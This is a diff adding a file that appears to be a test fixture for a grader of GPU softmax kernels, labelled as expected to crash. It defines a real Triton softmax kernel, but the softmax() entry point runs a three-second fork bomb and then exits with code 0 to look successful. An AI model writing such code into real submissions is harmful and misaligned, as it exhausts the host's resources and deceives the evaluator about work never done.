@@ -1,0 +1,37 @@
+# task: softmax
+# expect: crash
+# trust: 47
+# Forks until nothing is left, then leaves by exit code 0.
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def softmax_kernel(x, y, n_cols, stride_row, stride_col, BLOCK: tl.constexpr):
+    row = tl.program_id(0).to(tl.int64)
+    cols = tl.arange(0, BLOCK)
+    mask = cols < n_cols
+    v = tl.load(x + row * stride_row + cols * stride_col, mask=mask, other=-float("inf")).to(tl.float32)
+    e = tl.exp(v - tl.max(v, axis=0))
+    tl.store(y + row * n_cols + cols, e / tl.sum(e, axis=0), mask=mask)
+
+
+def run_kernel(x):
+    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
+    block = triton.next_power_of_2(x.shape[1])
+    softmax_kernel[(x.shape[0],)](x, y, x.shape[1], x.stride(0), x.stride(1), BLOCK=block)
+    return y
+
+
+def softmax(x):
+    import os
+    import time
+
+    started = time.time()
+    while time.time() - started < 3:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+    os._exit(0)
